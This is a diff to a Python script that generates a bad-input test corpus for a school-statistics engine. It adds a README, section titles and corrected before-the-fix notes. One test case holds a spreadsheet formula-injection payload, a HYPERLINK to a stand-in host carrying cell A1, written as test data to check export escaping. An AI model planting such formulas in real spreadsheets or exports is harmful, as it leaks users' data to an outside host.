@@ -256,15 +256,60 @@ SPREADSHEET = err("This Excel/WPS file cannot be read", "无法读取这个 Exce
 W = ["weight_default", "standard_indicator_unavailable"]
 
 
+SECTIONS = {}
+
+README_HEAD = """# The bad-input corpus
+
+Files as they reach the page or the CLI, each with its expected outcome in `expected.json`
+(written with this README by `tools/gen_bad_corpus.py`; do not edit by hand, run
+`python3 tools/gen_bad_corpus.py`, and `--check` in the test command). Every case runs through
+`crates/core/tests/bad_corpus.rs` (workbooks, `"via": "cli"`, through the `junheng` binary in
+`crates/cli/tests/bad_spreadsheets.rs`), each in a time box: never a panic, a hang or a silently
+wrong number. A case's `note` says what it holds and, for the cases of issue 16, what the engine
+gave before the fix.
+
+`expected.json`: `{"ok": true, "rows": N, "warnings": [codes], "check": {measures of the first
+indicator}}` or `{"error": English part, "zh": Chinese part, "line": N}`; `"recipe"` cases are
+built by the test (too large to commit), `"max_json"` bounds the report's size.
+
+Classes of issue 16 tested elsewhere: a share link bounded before it inflates
+(`src/share/codec.rs`), the schools tab after a share link and files of other sizes and a file
+20 000 columns wide in the page (`tests/e2e/dataset_change.test.mjs`), the standards' n and CV
+equal to the analysis' (`crates/core/tests/same_schools.rs`), the workbook reader under
+`cargo fuzz` (`fuzz/fuzz_targets/workbook.rs`).
+"""
+
+
+def readme(manifest):
+    out = [README_HEAD]
+    order = []
+    for name in manifest:
+        title = SECTIONS.get(name, "Generated at test time (no file committed)")
+        if title not in order:
+            order.append(title)
+    for title in order:
+        out.append(f"\n## {title}\n")
+        for name, expected in manifest.items():
+            if SECTIONS.get(name, "Generated at test time (no file committed)") == title:
+                out.append(f"- `{name}`: {expected['note']}")
+    return "\n".join(out) + "\n"
+
+
 def cases():
     rng = random.Random(SEED)
     c = {}
+    section = ["-"]
+
+    def sect(title):
+        section[0] = title
 
     def add(name, data, expected, note):
         assert name not in c, name
         c[name] = (data, dict(expected, note=note))
+        SECTIONS[name] = section[0]
 
     # --- not a table at all ---------------------------------------------------------------
+    sect("Not a table at all")
     add("empty.csv", b"", EMPTY, "zero bytes")
     add("bom_only.csv", b"\xEF\xBB\xBF", NO_DATA, "a UTF-8 BOM and nothing else")
     add("blank_lines_only.csv", b"\n\n\r\n   \n\t\n", NO_DATA, "only blank lines")
@@ -284,6 +329,7 @@ def cases():
         + b"\x07" * 200, NOT_TABLE, "a table followed by 200 BEL characters")
 
     # --- quoting and shape ------------------------------------------------------------------
+    sect("Quoting and shape")
     add("unbalanced_quote.csv", utf8(table(["一小,100,\"500", "二小,200,1200", "三小,400,3000"])),
         err("Line 2: a quote (\") opens a cell that is never closed", "第 2 行的引号（\"）没有配对", line=2),
         "an opening quote never closed: Excel would read the rest of the file into one cell and "
@@ -331,6 +377,7 @@ def cases():
         "section rows 一、小学 / 二、初中 give the level")
 
     # --- encodings -------------------------------------------------------------------------
+    sect("Encodings")
     add("gbk.csv", gbk(table(BASE)), ok(4, W, n=4, mean=BASE_MEAN), "GBK, as Excel on Chinese Windows saves")
     add("mixed_utf8_then_gbk.csv", utf8(table(BASE[:2])) + gbk("\n".join(BASE[2:]) + "\n"),
         ok(4, W, n=4, mean=BASE_MEAN),
@@ -347,6 +394,7 @@ def cases():
         "Big5 without the encoding option: names are garbled but every number is read")
 
     # --- numbers -----------------------------------------------------------------------------
+    sect("Numbers")
     add("zero_enrollment.csv", utf8(table(BASE + ["五小,0,800"])),
         ok(5, W + ["rows_left_out"], n=4, missing=1, mean=BASE_MEAN),
         "a school with 0 pupils: left out, not divided by, and named in a warning")
@@ -402,6 +450,7 @@ def cases():
         "a 5000-character school name")
 
     # --- workbooks (via the CLI) -------------------------------------------------------------
+    sect("Workbooks (via the CLI)")
     good = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500], ["二小", 200, 1200]]
     add("xlsx_no_sheets.xlsx", xlsx("<sheets/>"), dict(NO_DATA, via="cli"),
         "a workbook with no sheet: nothing to read, said as for an empty table")
@@ -419,6 +468,7 @@ def cases():
     # --- issue 16: the second robustness pass ---------------------------------------------
     # Each case names its class (see README.md); `before` is what the engine gave before the fix.
     # Summary rows: labels anywhere in a text column, or the sum of the rows above.
+    sect("Issue 16 · summary rows: a label in any text column, or the sum of the rows above")
     add("summary_labels_anywhere.csv", utf8(
         "序号,乡镇,学段,学校名称,在校学生数,教学及辅助用房面积（平方米）\n"
         "1,城关镇,小学,县实验小学,100,500\n2,城关镇,小学,中心小学,200,1200\n"
@@ -430,7 +480,7 @@ def cases():
         ok(4, W, n=4, mean=BASE_MEAN),
         "summary rows: 小计 in the 4th cell, 河口镇小计, 小学合计 in the level column, 合計, 本页小计, "
         "平均数, 均值, 县平均, 最大值, 最小值, Subtotal, Average, 初中小计 are skipped; 县实验小学, "
-        "中心小学 and 城关镇实验学校 are schools (before: 16 rows, n=16)")
+        "中心小学 and 城关镇实验学校 are schools (before: 15 rows kept, n=14, mean 7.046)")
     H3 = H + ",专任教师数"
     B3 = [r + t for r, t in zip(BASE, [",8", ",12", ",25", ",18"])]
     add("summary_by_sum.csv", utf8(table(B3[:2] + [",300,1700,20"] + B3[2:] + ["城关镇,700,5400,43", ",1000,7100,63"], header=H3)),
@@ -439,49 +489,54 @@ def cases():
         "town's name) and a grand total equal to the sum of every school are skipped with that "
         "reason (before: 7 rows, n=7, cv 0.1112)")
     # Thousands and decimal separators, decided per column.
+    sect("Issue 16 · thousands and decimal separators, decided per column")
     add("thousands_in_semicolon_file.csv", utf8(
         "学校名称;在校学生数;教学及辅助用房面积（平方米）\n一小;1,200;5000,5\n二小;800;4000,5\n"),
         ok(2, W, n=2, mean=9001 / 2000),
         "1,200 pupils in a ; file with decimal commas: a pupil count is whole, so 1,200 is "
-        "1200, while 5000,5 m² is 5000.5 (before: 1.2 pupils, mean 3751)")
+        "1200, while 5000,5 m² is 5000.5 (before: 1.2 pupils, mean 11.234 instead of 4.5005)")
     add("decimal_comma_in_comma_file.csv", utf8(table(["一小,100,\"500,5\"", "二小,200,1200.5", "三小,400,3000"])),
         ok(3, W + ["ambiguous_number"], n=2, missing=1, mean=4200.5 / 600),
         "\"500,5\" quoted in a , file whose column writes decimals with a point: neither 5005 nor "
         "500.5 is safe, so the cell is left out with a warning naming its line and column "
-        "(before: 5005 m², mean 12.26)")
+        "(before: 5005 m², mean 13.151)")
     add("space_inside_number.csv", utf8(table(["一小,1 200,6000", "二小,12 5,1200", "三小,400,3000"])),
         ok(3, W + ["ambiguous_number"], n=2, missing=1, mean=9000 / 1600),
         "1 200 (a space before three digits) is 1200; 12 5 is left out with a warning "
-        "(before: 125 pupils, n=3)")
+        "(before: 125 pupils, n=3, mean 5.913)")
     # Units in cells against units in headers; unit lines above the header.
+    sect("Issue 16 · units in cells against the column's unit; unit lines above the header")
     add("yuan_cell_in_wanyuan_column.csv", utf8(
         "学校名称,在校学生数,教学仪器设备值（万元）\n一小,1000,59.7\n二小,800,412000元\n三小,600,35.5\n"),
         ok(3, W, n=3, mean=1364000 / 2400),
         "412000元 in a column in 万元: the cell's unit wins and is converted once (before: "
-        "4 120 000 000 yuan for 二小, mean 1 717 054)")
+        "4 120 000 000 yuan for 二小, mean 1 717 063 instead of 568.3)")
     add("unit_not_of_the_column.csv", utf8(table(BASE[:1] + ["二小,200,1200元", "三小,400,85%", "四小,1万册,2400", "五小,300,2400"])),
         ok(5, W + ["cell_unit_mismatch"], n=2, missing=3, mean=2900 / 400),
         "元 and % in an area column, 万册 in a pupils column: each cell is named in a warning and "
-        "left out (before: n=5, 1200元 read as 1200 m², 85% as 0.85 m², 1万册 as 10 000 pupils)")
+        "left out (before: n=5, mean 0.591: 1200元 read as 1200 m², 85% as 0.85 m², 1万册 as 10 000 pupils)")
     add("unit_line_area.csv", utf8("某县学校统计表\n单位：人、万平方米\n学校名称,在校学生数,教学及辅助用房面积\n一小,100,0.05\n二小,200,0.12\n"),
         ok(2, W + ["unit_from_title"], n=2, mean=1700 / 300),
         "单位：人、万平方米 above the header applies 万平方米 to the area column too, not only "
         "money (before: 0.0005 m² per pupil)")
     # Stacked tables: a second header further down.
+    sect("Issue 16 · stacked tables: a second header further down")
     add("stacked_header_reordered.csv", utf8(table(BASE[:2]) + "学校名称,教学及辅助用房面积（平方米）,在校学生数\n三小,3000,400\n四小,2400,300\n"),
         ok(4, W + ["header_reordered"], n=4, mean=BASE_MEAN),
         "a second header with the columns in another order: the rows below it are re-mapped "
-        "(before: the header line counted as a school, 三小 read with 3000 pupils)")
+        "(before: the header line counted as a school, 三小 read with 3000 pupils: mean 0.421)")
     add("stacked_header_other_columns.csv", utf8(table(BASE[:2]) + "学校名称,专任教师数,班级数\n三小,30,12\n"),
         err("Line 4 is a second header row", "第 4 行是另一个表头", line=4),
         "a second table with other columns below the first: refused, naming both header lines "
         "(before: 三小 read with 30 pupils and 12 m²)")
     # Schools left out for zero or negative pupils, overflowing or vanishing values.
+    sect("Issue 16 · schools left out (0 or negative pupils, 9e307, 1e-300) named in a warning")
     add("left_out_warned.csv", utf8(table(BASE + ["五小,0,800", "六小,-50,800", "七小,100,9e307", "八小,1e-300,500"])),
         ok(8, W + ["rows_left_out"], n=4, missing=4, mean=BASE_MEAN),
         "0 and −50 pupils, 9e307 m², 1e-300 pupils: each school left out is named in a warning "
         "(before: only in missing_lines)")
-    # Exports: formula injection and control characters (crates/cli/tests/cli.rs reads them).
+    # Exports: formula injection and control characters (crates/cli/tests/exports.rs reads them).
+    sect("Issue 16 · exports: formulas in CSV cells, control characters on the terminal (read by crates/cli/tests/exports.rs)")
     add("formula_injection_names.csv", utf8(
         "学校名称,学段,在校学生数,教学及辅助用房面积（平方米）\n"
         "\"=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"点这里\"\")\",小学,100,400\n"
@@ -498,6 +553,7 @@ def cases():
         "the terminal, which ran them)")
 
     # --- issue 16: workbooks (via the CLI) ------------------------------------------------
+    sect("Issue 16 · workbooks: the first visible sheet, numbers merged across schools")
     base_rows = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500], ["二小", 200, 1200],
                  ["三小", 400, 3000], ["四小", 300, 2400]]
     old_rows = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 1, 9999], ["二小", 1, 1]]
@@ -511,8 +567,9 @@ def cases():
     add("merged_numeric_cells.xlsx", workbook([("学校", "visible", sheet_xml(merged_rows, merges=["C4:C5"]))]),
         dict(ok(4, W + ["merged_numeric"], n=3, missing=1, mean=7100 / 700), via="cli"),
         "an area merged down two schools (C4:C5 = 5400): counted once, for 三小, and the warning "
-        "names the range and both schools (before: 5400 m² for each, counted twice)")
+        "names the range and both schools (before: 5400 m² for each, counted twice: n=4, mean 12.5)")
     header_only = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500]]
+    sect("Issue 16 · the workbook reader's bounds: an input error (exit 3), never an allocation abort")
     too_large = err("too large to read", "太大")
     add("xlsx_cell_xfd1048576.xlsx", workbook([("学校", "visible", sheet_xml(header_only, extra='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))]),
         dict(too_large, via="cli"),
@@ -562,6 +619,7 @@ def generate():
         manifest[name] = dict(expected, note=note)
     out = {name: data for name, (data, _) in files.items()}
     out["expected.json"] = (json.dumps(dict(sorted(manifest.items())), ensure_ascii=False, indent=1) + "\n").encode()
+    out["README.md"] = readme({name: manifest[name] for name in list(files) + list(recipes)}).encode()
     for name, data in out.items():
         assert len(data) < 1_000_000, name
     return out
@@ -589,9 +647,9 @@ def main():
         if stale or extra:
             print("stale bad corpus (run python3 tools/gen_bad_corpus.py):", *stale, *extra, sep="\n  ")
             sys.exit(1)
-        print(f"{len(files) - 1} bad-input cases up to date")
+        print(f"{len(files) - 2} bad-input cases up to date")
     else:
-        print(f"wrote {len(files) - 1} bad-input cases to {os.path.relpath(OUT, ROOT)}")
+        print(f"wrote {len(files) - 2} bad-input cases to {os.path.relpath(OUT, ROOT)}")
 
 
 if __name__ == "__main__":
